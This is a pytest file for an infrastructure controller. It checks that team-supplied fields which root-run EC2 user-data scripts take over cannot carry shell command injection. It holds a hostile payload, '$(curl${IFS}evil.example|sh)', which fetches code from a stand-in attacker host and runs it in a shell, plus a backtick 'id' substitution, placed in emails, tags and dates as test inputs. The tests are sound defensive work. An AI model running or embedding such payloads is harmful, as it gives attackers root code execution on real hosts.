"""A team writes a command into a field of its own; the script that instances run as root takes fields over by variables."""

import base64
from typing import Any

import pytest
import yaml

from controller.kinds.template import VARIABLES
from tests.support.embedded_aws import AwsForTests
from tests.support.live_account import LiveAccount, changes, failures, notes
from tests.support.yaml_fleet import loaded, problems

COMMAND = "$(curl${IFS}evil.example|sh)"
WEB = "c50-ta-Web"
SCRIPT = "#!/bin/bash\n" + "".join(f"{name}={{{{ {name} }}}}\n" for name in VARIABLES)


@pytest.fixture
def running(aws: AwsForTests) -> LiveAccount:
    """A group whose script names every variable there is."""
    estate = LiveAccount(aws)
    estate.documents["Template", "linux"] = {"text": SCRIPT}
    estate.role(userData="linux")
    assert failures(estate.apply()) == []
    return estate


def user_data(estate: LiveAccount) -> str:
    return base64.b64decode(estate.template()["UserData"]).decode()


def test_the_script_is_filled_in(running: LiveAccount) -> None:
    assert "contactEmail=tango@acme.example\n" in user_data(running)
    assert changes(running.plan()) == []


@pytest.mark.parametrize(
    ("kind", "name", "fields"),
    [
        ("Cluster", "Tango", {"groupEmailAddress": f"{COMMAND}@x.yz"}),
        ("DeploymentMap", "web", {"contactEmailTag": f"{COMMAND}@x.yz"}),
        ("DeploymentMap", "web", {"projectCodeTag": COMMAND}),
        ("DeploymentMap", "web", {"removalDateTag": f"2027-01-01\n{COMMAND}"}),
        ("DeploymentMap", "web", {"puppetRole": COMMAND}),
        ("DeploymentMap", "web", {"serverRoleName": COMMAND}),
        ("Environment", "c50", {"roles": {"Web": {"projectCodeTag": COMMAND}}}),
        ("Environment", "c50", {"roles": {"Web": {"contactEmailTag": f"`id`@{COMMAND}.yz"}}}),
    ],
)
def test_a_field_that_scripts_take_over_holds_no_command(
    running: LiveAccount, kind: str, name: str, fields: dict[str, Any]
) -> None:
    """The commit is refused, at the field."""
    if kind == "DeploymentMap":
        (role,) = running.documents[kind, name]["roles"]
        fields = {"roles": [{**role, **fields}]}
    running.change(kind, name, **fields)
    texts = {
        f"{of_kind}-{named}.yaml": yaml.safe_dump(
            {"apiVersion": "envctl/v1", "kind": of_kind, "metadata": {"name": named}, "spec": spec}
        )
        for (of_kind, named), spec in running.documents.items()
    }
    wrong = [str(found) for found in problems(texts, loaded(texts)) if not found.warning]
    assert len(wrong) == 1
    assert f"{kind}-{name}.yaml" in wrong[0]


@pytest.mark.parametrize(
    ("variable", "fields"),
    [
        ("puppetBranch", {"puppetBranch": COMMAND}),
        (
            "consulDataCenter",
            {
                "consul": {
                    "dataCenter": COMMAND,
                    "servers": ["10.0.0.10"],
                    "securityTokenPath": {"bucket": "b", "key": "k"},
                }
            },
        ),
    ],
)
def test_a_field_that_other_programs_take_as_text_goes_into_no_script(
    running: LiveAccount, variable: str, fields: dict[str, Any]
) -> None:
    """The group stays as it is, and the plan says why and what to do."""
    before = user_data(running)
    running.change("EnvironmentType", "Staging", **fields)

    plan = running.plan()
    assert changes(plan) == []
    (told,) = notes(plan)
    assert f"{variable} is '{COMMAND}'" in told
    running.apply()
    assert user_data(running) == before
    assert COMMAND not in before
